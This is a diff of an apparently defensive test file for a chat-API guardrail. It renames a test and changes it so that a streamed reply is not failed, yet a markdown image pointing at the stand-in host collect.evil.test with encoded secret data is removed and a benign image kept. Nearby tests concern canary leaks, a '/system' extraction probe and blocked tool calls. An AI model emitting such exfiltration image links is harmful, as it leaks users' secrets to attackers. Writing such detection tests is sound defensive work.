@@ -139,12 +139,12 @@ async def _test_a_streamed_answer_leaking_the_canary_is_cut_before_it(client: As
         await client.chat.completions.create(model="m", messages=_user("/system"))
 
 
-async def test_an_exfiltration_image_is_neutralized_whole_and_cut_in_a_stream(base: str) -> None:
+async def test_an_exfiltration_image_is_neutralized_whole_and_streamed(base: str) -> None:
     async with _client(base) as client:
-        await _test_an_exfiltration_image_is_neutralized_whole_and_cut_in_a_stream(client)
+        await _test_an_exfiltration_image_is_neutralized_whole_and_streamed(client)
 
 
-async def _test_an_exfiltration_image_is_neutralized_whole_and_cut_in_a_stream(
+async def _test_an_exfiltration_image_is_neutralized_whole_and_streamed(
     client: AsyncOpenAI,
 ) -> None:
     leak = "Done ![chart](https://collect.evil.test/p.png?d=c2VjcmV0LWNhcmQ) and ![ok](https://img.example.org/a.png)"
@@ -155,7 +155,8 @@ async def _test_an_exfiltration_image_is_neutralized_whole_and_cut_in_a_stream(
     received, failed = await _streamed(
         client, _user(leak), extra_headers={"x-demo-chunk-size": "5"}
     )
-    assert failed and "evil.test" not in received
+    assert not failed and "evil.test" not in received
+    assert "chart" in received and "https://img.example.org/a.png" in received
 
 
 async def test_a_disallowed_tool_call_never_reaches_the_client(base: str) -> None:
